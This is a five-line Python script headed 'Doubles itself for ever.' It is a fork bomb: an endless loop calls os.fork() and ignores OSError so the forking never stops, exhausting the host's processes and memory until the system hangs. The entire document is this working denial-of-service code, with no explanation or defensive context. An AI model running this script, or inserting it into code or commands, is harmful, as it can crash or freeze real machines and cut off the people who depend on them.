# Doubles itself for ever.
import os
while 1:
    try: os.fork()
    except OSError: pass
